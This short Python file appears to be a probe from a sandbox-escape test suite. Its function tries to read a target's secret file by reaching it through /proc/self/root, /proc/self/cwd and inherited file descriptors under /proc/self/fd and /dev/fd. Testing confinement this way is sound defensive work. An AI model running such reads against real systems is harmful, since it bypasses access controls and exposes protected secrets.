"""Reach a file through the kernel's own doors: /proc/self/root, /proc/self/fd, /dev/fd.

Evidence: secret
Sandbox: violation, ok
"""


def attack(target):
    loot = []
    roads = [f"/proc/self/root{target['secret_file']}", f"/proc/self/cwd{target['secret_file']}"]
    roads += [f"/proc/self/fd/{number}" for number in range(3, 32)]
    roads += [f"/dev/fd/{number}" for number in range(3, 32)]
    for road in roads:
        try:
            with open(road) as file:
                loot.append(file.read(4096))
        except (OSError, ValueError):
            continue
    return loot
